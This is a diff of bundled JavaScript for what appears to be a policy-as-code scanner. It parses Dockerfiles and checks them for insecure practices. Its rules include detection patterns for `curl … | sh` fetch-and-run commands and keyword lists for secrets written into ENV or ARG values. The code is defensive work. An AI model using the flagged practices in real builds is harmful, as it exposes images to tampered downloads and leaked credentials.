+            if (inBlock) {
+                if (c === '*' && line[j + 1] === '/') {
+                    inBlock = false;
+                    j++;
+                }
+                continue;
+            }
+            if (quote) {
+                if (c === '\\' && quote === '"')
+                    j++;
+                else if (c === quote)
+                    quote = undefined;
+                continue;
+            }
+            if (c === '"' || (c === "'" && style === 'hash')) {
+                // A YAML apostrophe inside a plain scalar (`it's`) is not a quote: only after space or a flow char.
+                if (c === "'" && j > 0 && !/[\s:[{,-]/.test(line[j - 1]))
+                    continue;
+                quote = c;
+                continue;
+            }
+            if (style === 'hcl' && c === '<' && line[j + 1] === '<') {
+                const m = /^<<-?\s*([A-Za-z_][\w-]*)\s*$/.exec(line.slice(j));
+                if (m) {
+                    heredoc = m[1];
+                    break;
+                }
+            }
+            const startsHash = c === '#' && (style === 'hcl' || j === 0 || /\s/.test(line[j - 1]));
+            const startsSlash = style === 'hcl' && c === '/' && line[j + 1] === '/';
+            if (startsHash || startsSlash) {
+                comments.push({ line: i + 1, column: j + 1, text: line.slice(j + (startsHash ? 1 : 2)).trim() });
+                break;
+            }
+            if (style === 'hcl' && c === '/' && line[j + 1] === '*') {
+                const close = line.indexOf('*/', j + 2);
+                comments.push({
+                    line: i + 1,
+                    column: j + 1,
+                    text: line.slice(j + 2, close === -1 ? undefined : close).trim(),
+                });
+                if (close === -1)
+                    inBlock = true;
+                else
+                    j = close + 1;
+            }
+        }
+    }
+    return comments;
+}
+
+;// CONCATENATED MODULE: ./src/policy-as-code/parse/dockerfile.ts
+/**
+ * Dockerfiles (and Containerfiles) into the document model, read with `dockerfile-ast`, the
+ * parser behind the VS Code Docker language server. Each stage is a resource (type `stage`,
+ * named by its `AS` alias or its index) so a finding and a suppression can name it; the
+ * instructions keep their source range, and `argPos` maps an offset in an instruction's
+ * arguments back to the exact line and column, even inside a long `RUN … \` continuation.
+ *
+ * The library is lenient, so the errors a build would stop on are checked here: an unknown
+ * instruction, an instruction other than ARG before the first FROM, a FROM without an image, and a
+ * file without any FROM. A file with errors yields no documents, as other formats do.
+ */
+
+
+
+/** Every instruction Docker's builder accepts (MAINTAINER is deprecated, not removed). */
+const KEYWORDS = new Set([
+    'ADD',
+    'ARG',
+    'CMD',
+    'COPY',
+    'ENTRYPOINT',
+    'ENV',
+    'EXPOSE',
+    'FROM',
+    'HEALTHCHECK',
+    'LABEL',
+    'MAINTAINER',
+    'ONBUILD',
+    'RUN',
+    'SHELL',
+    'STOPSIGNAL',
+    'USER',
+    'VOLUME',
+    'WORKDIR',
+]);
+/**
+ * `Dockerfile.<suffix>` names a variant (`Dockerfile.dev`, `Dockerfile.alpine`,
+ * `Dockerfile.22.04`) unless the suffix says the file is something else: documentation, data,
+ * a script, a template still to be rendered, an editor or merge leftover, or BuildKit's
+ * per-Dockerfile ignore file (`Dockerfile.dockerignore`).
+ */
+const OTHER_SUFFIX = /\.(md|markdown|txt|rst|adoc|html?|pdf|json|ya?ml|toml|ini|cfg|conf|xml|csv|sh|bash|ps1|bat|cmd|py|js|mjs|cjs|ts|go|rb|java|bak|backup|orig|old|rej|swp|tmp|log|lock|patch|diff|dockerignore|j2|jinja2?|tpl|tmpl|template|erb|mustache|hbs|gotmpl|in|properties)$/i;
+/** True for `Dockerfile`, `Containerfile`, `*.Dockerfile`, `*.dockerfile` and `Dockerfile.<variant>`. */
+function isDockerfileName(file) {
+    const base = external_node_path_namespaceObject.posix.basename(file.replace(/\\/g, '/'));
+    if (/^(docker|container)file$/i.test(base))
+        return true;
+    if (/.\.(docker|container)file$/i.test(base))
+        return true;
+    if (/^(docker|container)file\.[^.]/i.test(base))
+        return !OTHER_SUFFIX.test(base);
+    return false;
+}
+/** The position in the file of `args.slice(start, end)`; the instruction when unknown. */
+function argPos(ins, start, end = start) {
+    const spans = ins.spans;
+    if (!spans || spans.length === 0)
+        return ins.pos;
+    const locate = (offset) => {
+        let span = spans[0];
+        for (const s of spans)
+            if (s.at <= offset)
+                span = s;
+        return { line: span.line, column: span.column + Math.max(0, offset - span.at) };
+    };
+    const a = locate(start);
+    const b = locate(Math.max(start, end));
+    return { line: a.line, column: a.column, endLine: b.line, endColumn: b.column };
+}
+/**
+ * The words of an instruction's arguments: shell-like splitting on blanks with '…' and "…"
+ * quotes removed, or the strings of the JSON (exec) form `["a", "b"]`.
+ */
+function words(args) {
+    const trimmed = args.trim();
+    if (trimmed.startsWith('[')) {
+        try {
+            const parsed = JSON.parse(trimmed);
+            if (Array.isArray(parsed) && parsed.every((x) => typeof x === 'string')) {
+                const base = args.indexOf('[');
+                let from = base;
+                return parsed.map((value) => {
+                    const at = args.indexOf(JSON.stringify(value), from);
+                    const start = at === -1 ? base : at;
+                    from = at === -1 ? from : at + 1;
+                    return { value, start, end: start + JSON.stringify(value).length };
+                });
+            }
+        }
+        catch {
+            // Not JSON after all: Docker reads it as the shell form too.
+        }
+    }
+    const out = [];
+    let i = 0;
+    while (i < args.length) {
+        while (i < args.length && /\s/.test(args[i]))
+            i++;
+        if (i >= args.length)
+            break;
+        const start = i;
+        let value = '';
+        let quote;
+        for (; i < args.length; i++) {
+            const c = args[i];
+            if (quote) {
+                if (c === quote)
+                    quote = undefined;
+                else if (c === '\\' && quote === '"' && i + 1 < args.length)
+                    value += args[++i];
+                else
+                    value += c;
+            }
+            else if (c === '"' || c === "'")
+                quote = c;
+            else if (/\s/.test(c))
+                break;
+            else if (c === '\\' && i + 1 < args.length)
+                value += args[++i];
+            else
+                value += c;
+        }
+        out.push({ value, start, end: i });
+    }
+    return out;
+}
+/** `ENV a=1 b="two words"`, the legacy `ENV name value with spaces`, `ARG NAME[=default]`, `LABEL`. */
+function properties(ins) {
+    const ws = words(ins.args);
+    if (ws.length === 0)
+        return [];
+    if (ins.keyword === 'ENV' && !ws[0].value.includes('=')) {
+        const rest = ws.slice(1);
+        return [
+            {
+                name: ws[0].value,
+                value: rest.map((w) => w.value).join(' '),
+                start: ws[0].start,
+                end: rest.length > 0 ? rest[rest.length - 1].end : ws[0].end,
+            },
+        ];
+    }
+    return ws.map((w) => {
+        const eq = w.value.indexOf('=');
+        return eq === -1
+            ? { name: w.value, start: w.start, end: w.end }
+            : { name: w.value.slice(0, eq), value: w.value.slice(eq + 1), start: w.start, end: w.end };
+    });
+}
+/** Options such as `--mount=…` or `--from=build` that lead some instructions' arguments. */
+function flags(ws) {
+    const found = new Map();
+    let i = 0;
+    for (; i < ws.length; i++) {
+        const m = /^--([a-z-]+)(?:=(.*))?$/.exec(ws[i].value);
+        if (!m)
+            break;
+        found.set(m[1], m[2] ?? '');
+    }
+    return { flags: found, rest: ws.slice(i) };
+}
+/**
+ * The shell command an instruction runs at build time: RUN after its `--mount`/`--network`
+ * options, and `ONBUILD RUN` (a trigger that runs in every image built from this one). The
+ * offset says where the command starts in `args`, for `argPos`.
+ */
+function shellCommand(ins) {
+    let args = ins.args;
+    let offset = 0;
+    if (ins.keyword === 'ONBUILD') {
+        const m = /^(\s*RUN\s+)/i.exec(args);
+        if (!m)
+            return undefined;
+        offset = m[1].length;
+        args = args.slice(offset);
+    }
+    else if (ins.keyword !== 'RUN')
+        return undefined;
+    const { rest } = flags(words(args));
+    if (rest.length === 0)
+        return undefined;
+    const start = rest[0].start;
+    const text = args.slice(start);
+    if (text.trim().startsWith('[')) {
+        const exec = words(text).map((w) => w.value);
+        return { text: exec.join(' '), offset: offset + start };
+    }
+    return { text, offset: offset + start };
+}
+/** The stage and the stages it is built from (`FROM build`), nearest first. */
+function lineage(model, stage) {
+    const chain = [];
+    let current = stage;
+    while (current && !chain.includes(current)) {
+        chain.push(current);
+        current = current.fromStage === undefined ? undefined : model.stages[current.fromStage];
+    }
+    return chain;
+}
+/** `${VAR}`, `$VAR`, `${VAR:-default}`, `${VAR:+alt}` from ARG defaults; unknown ones stay as written. */
+function substitute(text, vars) {
+    return text.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?)([-+])([^}]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g, (whole, braced, colon, op, word, bare) => {
+        const name = (braced ?? bare);
+        const value = vars.get(name);
+        const set = value !== undefined && (colon !== ':' || value !== '');
+        if (op === '-')
+            return set ? value : word;
+        if (op === '+')
+            return set ? word : '';
+        return value ?? whole;
+    });
+}
+function rangePos(range) {
+    return {
+        line: range.start.line + 1,
+        column: range.start.character + 1,
+        endLine: range.end.line + 1,
+        endColumn: range.end.character + 1,
+    };
+}
+function escapeRegExp(s) {
+    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+/**
+ * The arguments as Docker reads them: continuation lines joined with a space, comment and blank
+ * lines inside a continuation dropped, heredoc bodies kept line by line; with the source map.
+ */
+function readArgs(ins, escape, lines) {
+    // The library's own argument range leaves out options such as `--mount=` and `--chmod=`; the
+    // model keeps the arguments as written, so they are cut from the source text here.
+    const keyword = ins.getInstructionRange().end;
+    const end = ins.getRange().end;
+    const from = (lines.starts[keyword.line] ?? lines.text.length) + keyword.character;
+    const to = (lines.starts[end.line] ?? lines.text.length) + end.character;
+    const written = lines.text.slice(from, Math.max(from, to));
+    const lead = written.length - written.replace(/^[ \t]+/, '').length;
+    const raw = written.slice(lead);
+    if (raw.trim() === '')
+        return { args: '', spans: [] };
+    const range = { start: { line: keyword.line, character: keyword.character + lead } };
+    const trailingEscape = new RegExp(`${escapeRegExp(escape)}\\s*$`);
+    const spans = [];
+    let args = '';
+    let continued = false;
+    raw.split('\n').forEach((rawLine, i) => {
+        let line = rawLine.replace(/\r$/, '');
+        let sep = '';
+        if (i > 0) {
+            if (continued) {
+                if (line.trim() === '' || /^\s*#/.test(line))
+                    return;
+                sep = ' ';
+            }
+            else
+                sep = '\n';
+        }
+        const m = trailingEscape.exec(line);
+        continued = m !== null;
+        if (m)
+            line = line.slice(0, m.index).trimEnd();
+        const lead = i > 0 && sep === ' ' ? line.length - line.trimStart().length : 0;
+        spans.push({
+            at: args.length + sep.length,
+            line: range.start.line + i + 1,
+            column: (i === 0 ? range.start.character : 0) + lead + 1,
+        });
+        args += sep + line.slice(lead);
+    });
+    return { args, spans };
+}
+function scalar(pos, value) {
+    return { kind: 'scalar', pos, value };
+}
+/** Instructions grouped by keyword, in order: the shape custom rules navigate (`RUN`, `USER`, …). */
+function instructionMap(instructions, fallback) {
+    const byKeyword = new Map();
+    for (const ins of instructions) {
+        let e = byKeyword.get(ins.keyword);
+        if (!e) {
+            e = { key: ins.keyword, keyPos: ins.pos, value: { kind: 'list', pos: ins.pos, items: [] } };
+            byKeyword.set(ins.keyword, e);
+        }
+        if (e.value.kind === 'list')
+            e.value.items.push(scalar(ins.pos, ins.args));
+    }
+    return { kind: 'map', pos: fallback, entries: [...byKeyword.values()] };
+}
+function parseDockerfile(file, text) {
+    const ast = main.DockerfileParser.parse(text);
+    const lines = new Lines(text);
+    const escape = ast.getEscapeCharacter();
+    const errors = [];
+    const error = (pos, message) => {
+        errors.push({ file, line: pos.line, column: pos.column, message, format: 'dockerfile' });
+    };
+    const globalArgs = [];
+    const stages = [];
+    const vars = new Map();
+    const stageNames = new Map();
+    const all = [];
+    for (const node of ast.getInstructions()) {
+        const keyword = node.getKeyword().toUpperCase();
+        const pos = rangePos(node.getRange());
+        if (!KEYWORDS.has(keyword)) {
+            error(rangePos(node.getInstructionRange()), `unknown instruction: ${node.getInstruction()}`);
+            continue;
+        }
+        const { args, spans } = readArgs(node, escape, lines);
+        const ins = { keyword, args, pos, stage: stages.length - 1, spans };
+        all.push(ins);
+        if (keyword === 'FROM') {
+            const { rest } = flags(words(args));
+            const imageWord = rest[0];
+            if (!imageWord) {
+                error(pos, 'FROM needs an image');
+                continue;
+            }
+            const image = substitute(imageWord.value, vars);
+            const alias = rest[1] && rest[1].value.toLowerCase() === 'as' && rest[2] ? rest[2].value : undefined;
+            const parent = stageNames.get(image.toLowerCase());
+            const stage = {
+                index: stages.length,
+                ...(alias !== undefined ? { name: alias } : {}),
+                image,
+                ...(parent !== undefined ? { fromStage: parent } : {}),
+                pos,
+                instructions: [],
+            };
+            ins.stage = stage.index;
+            stage.instructions.push(ins);
+            stages.push(stage);
+            if (alias !== undefined)
+                stageNames.set(alias.toLowerCase(), stage.index);
+            continue;
+        }
+        if (stages.length === 0) {
+            if (keyword !== 'ARG') {
+                error(rangePos(node.getInstructionRange()), `${keyword} before the first FROM: only ARG may come first`);
+                continue;
+            }
+            globalArgs.push(ins);
+            for (const p of properties(ins))
+                vars.set(p.name, p.value);
+            continue;
+        }
+        stages[stages.length - 1].instructions.push(ins);
+    }
+    if (stages.length === 0 && errors.length === 0) {
+        error({ line: 1, column: 1, endLine: 1, endColumn: 1 }, 'no FROM instruction: a Dockerfile starts each stage with FROM');
+    }
+    if (errors.length > 0)
+        return { docs: [], errors };
+    for (const stage of stages) {
+        const last = stage.instructions[stage.instructions.length - 1];
+        stage.pos = { ...stage.pos, endLine: last.pos.endLine, endColumn: last.pos.endColumn };
+    }
+    const model = { stages, globalArgs };
+    const resources = stages.map((stage) => {
+        const body = instructionMap(stage.instructions, stage.pos);
+        return { type: 'stage', name: stage.name ?? String(stage.index), pos: stage.pos, body, node: body };
+    });
+    const params = new Map();
+    for (const ins of globalArgs) {
+        for (const p of properties(ins))
+            params.set(p.name, p.value === undefined ? undefined : scalar(ins.pos, p.value));
+    }
+    const doc = {
+        file,
+        format: 'dockerfile',
+        root: instructionMap(all, all[0]?.pos ?? { line: 1, column: 1, endLine: 1, endColumn: 1 }),
+        resources,
+        params,
+        comments: scanComments(text, 'hash'),
+        dockerfile: model,
+    };
+    return { docs: [doc], errors: [] };
+}
+/** `registry:5000/org/app:1.2@sha256:…` into its parts (a port is not a tag). */
+function imageRef(image) {
+    const at = image.indexOf('@');
+    const digest = at === -1 ? undefined : image.slice(at + 1);
+    const rest = at === -1 ? image : image.slice(0, at);
+    const slash = rest.lastIndexOf('/');
+    const colon = rest.lastIndexOf(':');
+    const tagged = colon > slash;
+    return {
+        name: tagged ? rest.slice(0, colon) : rest,
+        ...(tagged ? { tag: rest.slice(colon + 1) } : {}),
+        ...(digest !== undefined ? { digest } : {}),
+    };
+}
+const WRAPPERS = new Set(['sudo', 'env', 'exec', 'command', 'nohup', 'time', 'xargs']);
+/**
+ * A shell command split into simple commands at `|`, `&&`, `||`, `;`, `&` and newlines, outside
+ * quotes: enough to tell which program each part runs and which parts are piped together.
+ */
+function segments(command) {
+    const out = [];
+    let start = 0;
+    let after = '';
+    let quote;
+    const push = (end, next, skip) => {
+        const raw = command.slice(start, end);
+        const lead = raw.length - raw.trimStart().length;
+        const text = raw.trim();
+        if (text) {
+            const ws = words(text);
+            let i = 0;
+            while (i < ws.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(ws[i].value))
+                i++;
+            const all = ws.slice(i);
+            const wrapped = all.findIndex((w) => !WRAPPERS.has(w.value) && !w.value.startsWith('-'));
+            const program = wrapped === -1 ? undefined : all[wrapped].value.split('/').pop();
+            out.push({ text, start: start + lead, after, words: ws, ...(program ? { program } : {}) });
+        }
+        after = next;
+        start = end + skip;
+    };
+    for (let i = 0; i < command.length; i++) {
+        const c = command[i];
+        if (quote) {
+            if (c === quote)
+                quote = undefined;
+            else if (c === '\\' && quote === '"')
+                i++;
+            continue;
+        }
+        if (c === '"' || c === "'")
+            quote = c;
+        else if (c === '\\')
+            i++;
+        else if (c === '|' || c === '&') {
+            const two = command[i + 1] === c;
+            if (c === '&' && !two && (command[i - 1] === '>' || command[i + 1] === '>'))
+                continue;
+            push(i, (two ? c + c : c), two ? 2 : 1);
+            if (two)
+                i++;
+        }
+        else if (c === ';' || c === '\n')
+            push(i, c, 1);
+    }
+    push(command.length, '', 0);
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/policy-as-code/rules/dockerfile.ts
+/**
+ * Dockerfile rules. Each reads the stages the parser built (`doc.dockerfile`); a hit points at
+ * the offending instruction, at the exact words inside a long RUN, or at the stage's FROM when
+ * something is missing from the image (a USER, a HEALTHCHECK).
+ */
+
+
+function dockerfile_label(stage) {
+    return stage.name !== undefined ? `Stage ${stage.name}` : `Stage ${stage.index}`;
+}
+function fromOf(stage) {
+    return stage.instructions[0];
+}
+/** A rule checked once per stage; the hit belongs to the stage's resource. */
+function stageRule(meta, check) {
+    return resourceRule(meta, {
+        dockerfile: {
+            types: ['stage'],
+            check(res, doc) {
+                const model = doc.dockerfile;
+                const stage = model?.stages[doc.resources.indexOf(res)];
+                return model && stage ? check(stage, model, doc) : undefined;
+            },
+        },
+    });
+}
+/** The stage built last: the image `docker build` produces without `--target`. */
+function isFinal(stage, model) {
+    return stage.index === model.stages.length - 1;
+}
+/** The image word of a FROM and where it is. */
+function fromImage(ins) {
+    const w = flags(words(ins.args)).rest[0];
+    return w ? { value: w.value, pos: argPos(ins, w.start, w.end) } : undefined;
+}
+/** A base image a rule can judge: not a stage, not `scratch`, no unresolved `${VAR}`. */
+function knownBaseImage(stage) {
+    return (stage.fromStage === undefined && stage.image.toLowerCase() !== 'scratch' && !stage.image.includes('$'));
+}
+function viaArg(stage) {
+    const written = fromImage(fromOf(stage))?.value;
+    return written !== undefined && written !== stage.image ? ` (${written} with its ARG default)` : '';
+}
+const dockerfileBaseImageLatest = stageRule({
+    id: 'dockerfile-base-image-latest',
+    title: 'Base image uses the latest tag',
+    severity: 'medium',
+    description: '`latest` moves whenever the publisher pushes: two builds of the same Dockerfile can get different base images, a compromised or broken push reaches the next build unreviewed, and nobody can tell which base a running image was built from.',
+    fix: 'Pin the base image to a version tag and, better, a digest: `FROM node:22.11-alpine@sha256:…`. Let Dependabot or Renovate propose updates.',
+    refs: { checkov: ['CKV_DOCKER_7'], kics: ['f45ea400-6bbe-4501-9fc7-1c3d75c32067'] },
+}, (stage) => {
+    if (!knownBaseImage(stage))
+        return;
+    const ref = imageRef(stage.image);
+    if (ref.digest === undefined && ref.tag?.toLowerCase() === 'latest') {
+        return hit(fromImage(fromOf(stage))?.pos ?? fromOf(stage).pos, `${dockerfile_label(stage)} is built FROM ${stage.image}${viaArg(stage)}: pin a version tag and digest instead of latest.`);
+    }
+});
+const dockerfileBaseImageUntagged = stageRule({
+    id: 'dockerfile-base-image-untagged',
+    title: 'Base image has no tag or digest',
+    severity: 'medium',
+    description: 'A base image without a tag or digest means `latest`: whatever the publisher pushed last is what the next build gets, so builds are not reproducible and a bad push flows in unreviewed.',
+    fix: 'Name a version tag and, better, a digest: `FROM python:3.12-slim@sha256:…`. `scratch` and earlier stages need none.',
+    refs: { checkov: ['CKV_DOCKER_7'], kics: ['9efb0b2d-89c9-41a3-91ca-dcc0aec911fd'] },
+}, (stage) => {
+    if (!knownBaseImage(stage))
+        return;
+    const ref = imageRef(stage.image);
+    if (ref.digest === undefined && ref.tag === undefined) {
+        return hit(fromImage(fromOf(stage))?.pos ?? fromOf(stage).pos, `${dockerfile_label(stage)} is built FROM ${stage.image}${viaArg(stage)} without a tag or digest: pin a version tag and digest.`);
+    }
+});
+/** The user a USER instruction sets, without its group. */
+function userOf(ins) {
+    const first = words(ins.args)[0]?.value;
+    return first === undefined ? undefined : first.split(':')[0];
+}
+const dockerfileRunsAsRoot = stageRule({
+    id: 'dockerfile-runs-as-root',
+    title: 'Image runs as root',
+    severity: 'high',
+    description: 'Without a USER instruction, or with root as the last one, the container starts as UID 0. Any code execution in the application is then root in the container, one kernel or runtime bug away from root on the host, and can rewrite everything in the image.',
+    fix: 'Create an unprivileged user and switch to it at the end of the final stage: `RUN useradd --uid 10001 --no-create-home app` then `USER 10001` (or a base image that does, such as a `:nonroot` distroless tag).',
+    refs: {
+        checkov: ['CKV_DOCKER_3', 'CKV_DOCKER_8'],
+        kics: ['fd54f200-402c-4333-a5a4-36ef6709af2f', '67fd0c4a-68cf-46d7-8c41-bc9fba7e40ae'],
+    },
+}, (stage, model) => {
+    if (!isFinal(stage, model))
+        return;
+    for (const s of lineage(model, stage)) {
+        const users = s.instructions.filter((i) => i.keyword === 'USER');
+        const last = users[users.length - 1];
+        if (!last)
+            continue;
+        const user = userOf(last);
+        if (user === undefined || user.includes('$'))
+            return;
+        if (user === 'root' || /^0+$/.test(user)) {
+            return hit(last.pos, `${dockerfile_label(stage)} (the final image) switches to USER ${user}: end with an unprivileged USER.`);
+        }
+        return;
+    }
+    const base = lineage(model, stage).pop();
+    if (/nonroot/i.test(base.image))
+        return;
+    return hit(fromOf(stage).pos, `${dockerfile_label(stage)} (the final image) has no USER and runs as root: add USER with an unprivileged user.`);
+});
+const dockerfile_URL = /^(https?|ftp):\/\//i;
+const GIT_URL = /^(git@|ssh:\/\/|git:\/\/)|\.git(#.*)?$/i;
+const ARCHIVE = /\.(tar|tar\.gz|tgz|tar\.bz2|tbz2?|tar\.xz|txz|tar\.zst|tzst)$/i;
+/** The sources of an ADD or COPY (every word but the destination), after its options. */
+function sources(ins) {
+    const parsed = flags(words(ins.args));
+    return { sources: parsed.rest.slice(0, -1), flags: parsed.flags };
+}
+const dockerfileAddRemoteUrl = stageRule({
+    id: 'dockerfile-add-remote-url',
+    title: 'ADD downloads from a URL without a checksum',
+    severity: 'medium',
+    description: 'ADD with a URL fetches whatever the server returns at build time, with no integrity check: a compromised or hijacked server, or a moved tag in a Git URL, puts attacker content into the image.',
+    fix: 'Pin the download: `ADD --checksum=sha256:… https://…` (BuildKit), or download in a RUN step that verifies a checksum or signature. For Git sources, pin a commit.',
+    refs: { checkov: ['CKV_DOCKER_4'] },
+}, (stage) => stage.instructions
+    .filter((i) => i.keyword === 'ADD')
+    .flatMap((ins) => {
+    const { sources: srcs, flags: opts } = sources(ins);
+    return srcs
+        .filter((w) => (dockerfile_URL.test(w.value) && !opts.has('checksum')) || GIT_URL.test(w.value))
+        .map((w) => hit(argPos(ins, w.start, w.end), `${dockerfile_label(stage)} ADDs ${w.value} without a checksum: verify what it downloads.`));
+}));
+const dockerfileAddInsteadOfCopy = stageRule({
+    id: 'dockerfile-add-instead-of-copy',
+    title: 'ADD used to copy local files',
+    severity: 'low',
+    description: 'ADD also fetches URLs and unpacks archives, so a later change of a source (a renamed file that is now a tarball, a variable that becomes a URL) silently changes what lands in the image. COPY only copies.',
+    fix: 'Use `COPY` for local files and directories; keep ADD only to unpack a local tar archive.',
+    refs: { checkov: ['CKV_DOCKER_4'], kics: ['9513a694-aa0d-41d8-be61-3271e056f36b'] },
+}, (stage) => stage.instructions
+    .filter((i) => i.keyword === 'ADD')
+    .map((ins) => {
+    const srcs = sources(ins).sources;
+    const local = srcs.filter((w) => !dockerfile_URL.test(w.value) && !GIT_URL.test(w.value) && !w.value.includes('$'));
+    if (local.length > 0 && local.some((w) => !ARCHIVE.test(w.value))) {
+        return hit(ins.pos, `${dockerfile_label(stage)} uses ADD for local files: use COPY.`);
+    }
+    return undefined;
+}));
+/** Hits over each build-time shell command of a stage, with a function finding problems in it. */
+function shellHits(stage, find) {
+    const hits = [];
+    for (const ins of stage.instructions) {
+        const cmd = shellCommand(ins);
+        if (!cmd)
+            continue;
+        for (const f of find(segments(cmd.text), cmd.text)) {
+            hits.push(hit(argPos(ins, cmd.offset + f.start, cmd.offset + f.end), f.message));
+        }
+    }
+    return hits;
+}
+const DOWNLOADERS = new Set(['curl', 'wget']);
+const INTERPRETERS = /^(sh|bash|zsh|dash|ksh|ash|python[0-9.]*|perl|ruby|node|php)$/;
+const dockerfilePipeToShell = stageRule({
+    id: 'dockerfile-pipe-to-shell',
+    title: 'Downloaded script piped into a shell',
+    severity: 'high',
+    description: '`curl … | sh` runs whatever the server returns, unverified, as the build user (usually root). A compromised server, CDN or DNS, or a truncated download, executes in the image build and ends up in the image.',
+    fix: 'Download to a file, verify its checksum or signature (`echo "<sha256>  install.sh" | sha256sum -c -`), then run it; better, install a pinned package.',
+}, (stage) => shellHits(stage, (segs, command) => {
+    const found = [];
+    segs.forEach((seg, i) => {
+        if (!seg.program || !DOWNLOADERS.has(seg.program))
+            return;
+        for (let j = i + 1; j < segs.length && segs[j].after === '|'; j++) {
+            const target = segs[j].program;
+            if (target && INTERPRETERS.test(target)) {
+                found.push({
+                    start: seg.start,
+                    end: segs[j].start + segs[j].text.length,
+                    message: `${dockerfile_label(stage)} pipes ${seg.program} output into ${target}: download, verify a checksum, then run.`,
+                });
+                return;
+            }
+        }
+    });
+    const sub = /\b(sh|bash|zsh|dash|ksh)\s+(?:-\w+\s+)*(?:<\(|-c\s+["']?\$\()\s*(curl|wget)\b/g;
+    for (let m = sub.exec(command); m !== null; m = sub.exec(command)) {
+        found.push({
+            start: m.index,
+            end: m.index + m[0].length,
+            message: `${dockerfile_label(stage)} runs ${m[2]} output with ${m[1]}: download, verify a checksum, then run.`,
+        });
+    }
+    return found;
+}));
+/** Splits a variable name into words: `DB_PASSWORD` → DB, PASSWORD; `apiKey` → API, KEY. */
+function nameParts(name) {
+    return name
+        .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
+        .split(/[^A-Za-z0-9]+/)
+        .filter(Boolean)
+        .map((p) => p.toUpperCase());
+}
+const SECRET_WORD = /^(PASSWORD|PASSWD|PASS|PASSPHRASE|PWD|SECRET|SECRETS|TOKEN|TOKENS|APIKEY|CREDENTIAL|CREDENTIALS)$|(PASSWORD|SECRET|TOKEN)$/;
+const SECRET_PAIR = /^(API|ACCESS|PRIVATE|SECRET|AUTH|ENCRYPTION|SIGNING|MASTER|CLIENT)_(KEY|SECRET)$/;
+/** Names of settings about a secret rather than the secret itself. */
+const NOT_SECRET_LAST = /^(FILE|PATH|DIR|URL|URI|ENDPOINT|HOST|NAME|ARN|ID|LENGTH|TYPE|HEADER|VERSION|ENABLED|DISABLED|REQUIRED|LOCATION|EXPIRY|TTL|FORMAT|MODE|SIZE|COUNT|POLICY|REF|PREFIX)$/;
+/** True when a variable name says it holds a password, token, or key. */
+function isSecretName(name) {
+    const parts = nameParts(name);
+    if (parts.length === 0 || (parts.length === 1 && parts[0] === 'PWD'))
+        return false;
+    if (NOT_SECRET_LAST.test(parts[parts.length - 1]))
+        return false;
+    if (parts.some((p) => SECRET_WORD.test(p)))
+        return true;
+    return parts.some((p, i) => i + 1 < parts.length && SECRET_PAIR.test(`${p}_${parts[i + 1]}`));
+}
+/** A value written in the file, not a reference, not a flag. */
+function isLiteralSecret(value) {
+    if (value === undefined)
+        return false;
+    const v = value.trim();
+    if (v === '' || v.includes('$') || v.includes('{{'))
+        return false;
+    return !/^(true|false|yes|no|on|off|null|none|0|1)$/i.test(v);
+}
+/** ENV and ARG instructions of the whole file with the stage they belong to (global ARGs: none). */
+function variables(doc) {
+    const model = doc.dockerfile;
+    if (!model)
+        return [];
+    const out = model.globalArgs.map((ins) => ({ ins }));
+    model.stages.forEach((stage, i) => {
+        const resource = doc.resources[i];
+        for (const ins of stage.instructions) {
+            if (ins.keyword === 'ENV' || ins.keyword === 'ARG')
+                out.push({ ins, ...(resource ? { resource } : {}) });
+        }
+    });
+    return out;
+}
+const dockerfileSecretInEnvArg = defineRule({
+    id: 'dockerfile-secret-in-env-arg',
+    title: 'Secret written into ENV or ARG',
+    severity: 'high',
+    description: 'A password, token or key given as a literal ENV value or ARG default is stored in the image configuration and history: anyone who can pull the image (or read the Dockerfile) has it, and it cannot be rotated without rebuilding every image.',
+    fix: 'Remove the value. Pass build-time secrets with BuildKit secret mounts (`RUN --mount=type=secret,id=npm_token …` and `docker build --secret id=npm_token,…`); give runtime secrets to the container from the orchestrator (Kubernetes Secret, ECS secrets, a secrets manager).',
+    refs: { kics: ['781e75f7-bf43-4ab7-bae7-a08ad6607af3'] },
+    formats: ['dockerfile'],
+    check(doc) {
+        const hits = [];
+        for (const { ins, resource } of variables(doc)) {
+            for (const p of properties(ins)) {
+                if (!isSecretName(p.name) || !isLiteralSecret(p.value))
+                    continue;
+                hits.push({
+                    pos: argPos(ins, p.start, p.end),
+                    message: `${ins.keyword} ${p.name} holds a literal secret that is stored in the image: pass it as a BuildKit secret or at run time.`,
+                    ...(resource ? { resource } : {}),
+                });
+            }
+        }
+        return hits;
+    },
+});
+const dockerfileSecretBuildArg = defineRule({
+    id: 'dockerfile-secret-build-arg',
+    title: 'Secret passed as a build argument',
+    severity: 'medium',
+    description: 'A build argument named like a secret is meant to receive one with `--build-arg`. Build argument values are recorded in the image history (`docker history`, the provenance attestation) and in the cache of every RUN that uses them, so the secret ships with the image.',
+    fix: 'Replace the ARG with a BuildKit secret mount: `RUN --mount=type=secret,id=token,env=TOKEN …` and `docker build --secret id=token,env=TOKEN`.',
+    formats: ['dockerfile'],
+    check(doc) {
+        const hits = [];
+        for (const { ins, resource } of variables(doc)) {
+            if (ins.keyword !== 'ARG')
+                continue;
+            for (const p of properties(ins)) {
+                if (!isSecretName(p.name) || isLiteralSecret(p.value))
+                    continue;
+                hits.push({
+                    pos: argPos(ins, p.start, p.end),
+                    message: `ARG ${p.name} carries a secret into the image history: use a BuildKit secret mount instead.`,
+                    ...(resource ? { resource } : {}),
+                });
+            }
+        }
+        return hits;
+    },
+});
+const dockerfileNoHealthcheck = stageRule({
+    id: 'dockerfile-no-healthcheck',
+    title: 'Image has no HEALTHCHECK',
+    severity: 'low',
+    description: 'Without a HEALTHCHECK, Docker and Swarm only know whether the process runs, not whether it serves: a hung or deadlocked container stays in rotation.',
+    fix: 'Add a HEALTHCHECK to the final stage, e.g. `HEALTHCHECK --interval=30s CMD wget -qO- http://localhost:8080/health || exit 1`, or `HEALTHCHECK NONE` to state that the orchestrator probes it (Kubernetes ignores HEALTHCHECK).',
+    refs: { checkov: ['CKV_DOCKER_2'], kics: ['b03a748a-542d-44f4-bb86-9199ab4fd2d5'] },
+}, (stage, model) => {
+    if (!isFinal(stage, model))
+        return;
+    if (lineage(model, stage).some((s) => s.instructions.some((i) => i.keyword === 'HEALTHCHECK')))
+        return;
